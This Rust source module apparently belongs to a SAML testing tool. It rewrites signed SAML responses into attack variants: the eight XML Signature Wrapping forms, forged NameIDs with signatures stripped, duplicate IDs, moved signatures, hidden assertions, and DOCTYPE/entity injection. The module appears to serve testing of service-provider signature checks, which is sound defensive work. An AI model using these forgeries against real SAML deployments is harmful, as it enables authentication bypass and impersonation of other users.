//! What somebody who holds a good response can make of it: the eight wrappings that SAML Raider tries (Somorovsky et
//! al., "On Breaking SAML", 2012), and other changes to what is signed already.

use super::super::fault::SamlFault as Fault;
use super::super::fresh_id;
use super::super::spoils::Spoils;
use super::super::tree::{ASSERTION, DSIG, Element, Node, PROTOCOL, ds, samlp};
use super::draft::note;

/// Somebody else's name.
const FORGED_NAME: &str = "somebody-elses-name";

/// Changes a finished response.
pub(super) fn spoil(response: &mut Element, spoils: &Spoils, address: &str) {
    for fault in Fault::ALL.iter().filter(|fault| spoils.has(**fault)) {
        match fault {
            Fault::Xsw1 | Fault::Xsw2 => wrap_response(response, *fault, address),
            Fault::Xsw3 | Fault::Xsw4 | Fault::Xsw5 | Fault::Xsw6 | Fault::Xsw7 | Fault::Xsw8 => {
                wrap_assertion(response, *fault, address);
            }
            Fault::Tampered => tamper(response, address),
            Fault::DuplicateId => duplicate_id(response),
            Fault::SignatureInExtensions => move_signature(response),
            Fault::AssertionInObject => hide_assertion(response),
            _ => {}
        }
    }
}

/// Changes a response that is text already.
pub(super) fn spoil_text(document: String, spoils: &Spoils) -> String {
    if spoils.has(Fault::Doctype) {
        return format!("<!DOCTYPE samlp:Response>{document}");
    }
    if spoils.has(Fault::Entity) {
        let begin = document.find("<saml:NameID");
        let text = begin.and_then(|at| document.get(at..)?.find('>').map(|end| at + end + 1));
        if let Some((head, rest)) = text.and_then(|at| document.split_at_checked(at)) {
            let tail = rest
                .find('<')
                .and_then(|end| rest.get(end..))
                .unwrap_or_default();
            let name = rest.strip_suffix(tail).unwrap_or_default();
            return format!("<!DOCTYPE samlp:Response [<!ENTITY n \"{name}\">]>{head}&n;{tail}");
        }
    }
    document
}

/// An assertion, or a response with one, that says somebody else. Not signed.
pub(super) fn forged(original: &Element, address: &str) -> Element {
    let mut copy = original.clone();
    while copy.take(DSIG, "Signature").is_some() {}
    copy.set("ID", Some(&fresh_id()));
    rename(&mut copy, address);
    copy
}

fn rename(element: &mut Element, address: &str) {
    let is_name = element.is(ASSERTION, "NameID");
    for node in &mut element.children {
        match node {
            Node::Element(child) => rename(child, address),
            Node::Text(text) if text.contains('@') => address.clone_into(text),
            Node::Text(text) if is_name => FORGED_NAME.clone_into(text),
            _ => {}
        }
    }
}

/// The forged response on the outside, the signed one somewhere in it.
fn wrap_response(response: &mut Element, fault: Fault, address: &str) {
    let mut bare = response.clone();
    let mut evil = forged(response, address);
    if let Some(assertion) = evil.first_mut(ASSERTION, "Assertion") {
        *assertion = forged(assertion, address);
    }
    match bare.take(DSIG, "Signature") {
        Some(mut signature) if fault == Fault::Xsw1 => {
            signature.children.push(Node::Element(bare));
            evil.insert(1, signature);
        }
        Some(signature) => {
            evil.insert(1, bare);
            evil.insert(2, signature);
        }
        // Only the assertion in it is signed.
        None => evil.insert(1, samlp("Extensions").holding(bare)),
    }
    *response = evil;
}

/// A forged assertion where one is looked for, the signed one somewhere near.
fn wrap_assertion(response: &mut Element, fault: Fault, address: &str) {
    let Some(original) = response.take(ASSERTION, "Assertion") else {
        return;
    };
    let mut bare = original.clone();
    let signature = bare.take(DSIG, "Signature");
    if signature.is_some() {
        // Of the response as it was: it would give the forgery away.
        response.take(DSIG, "Signature");
    }
    let mut evil = forged(&original, address);
    let end = response.children.len();
    match (fault, signature) {
        (Fault::Xsw3, _) => {
            response.insert(end, evil);
            response.insert(end + 1, original);
        }
        (Fault::Xsw4, _) => {
            evil.children.push(Node::Element(original));
            response.insert(end, evil);
        }
        (Fault::Xsw7, _) => {
            response.insert(1, samlp("Extensions").holding(evil));
            response.children.push(Node::Element(original));
        }
        (Fault::Xsw6, Some(mut signature)) => {
            signature.children.push(Node::Element(bare));
            evil.insert(1, signature);
            response.insert(end, evil);
        }
        (Fault::Xsw8, Some(mut signature)) => {
            signature
                .children
                .push(Node::Element(ds("Object").holding(bare)));
            evil.insert(1, signature);
            response.insert(end, evil);
        }
        (_, signature) => {
            if let Some(signature) = signature {
                evil.insert(1, signature);
            }
            response.insert(end, evil);
            response.insert(end + 1, bare);
        }
    }
}

fn tamper(response: &mut Element, address: &str) {
    if let Some(assertion) = response.first_mut(ASSERTION, "Assertion") {
        rename(assertion, address);
    }
}

fn duplicate_id(response: &mut Element) {
    let assertion = response.all(ASSERTION, "Assertion").next();
    let signed = assertion.filter(|one| one.all(DSIG, "Signature").next().is_some());
    let id = signed
        .unwrap_or(response)
        .attribute("ID")
        .map(str::to_owned);
    let mut double = note();
    double.set("ID", id.as_deref());
    response.insert(1, samlp("Extensions").holding(double));
}

fn move_signature(response: &mut Element) {
    let of_assertion = response
        .first_mut(ASSERTION, "Assertion")
        .and_then(|assertion| assertion.take(DSIG, "Signature"));
    let signature = of_assertion.or_else(|| response.take(DSIG, "Signature"));
    if let Some(signature) = signature {
        response.take(PROTOCOL, "Extensions");
        response.insert(1, samlp("Extensions").holding(signature));
    }
}

fn hide_assertion(response: &mut Element) {
    if let Some(assertion) = response.take(ASSERTION, "Assertion") {
        let object = ds("Object").holding(assertion);
        let signature = ds("Signature").holding(object);
        response.insert(1, samlp("Extensions").holding(signature));
    }
}
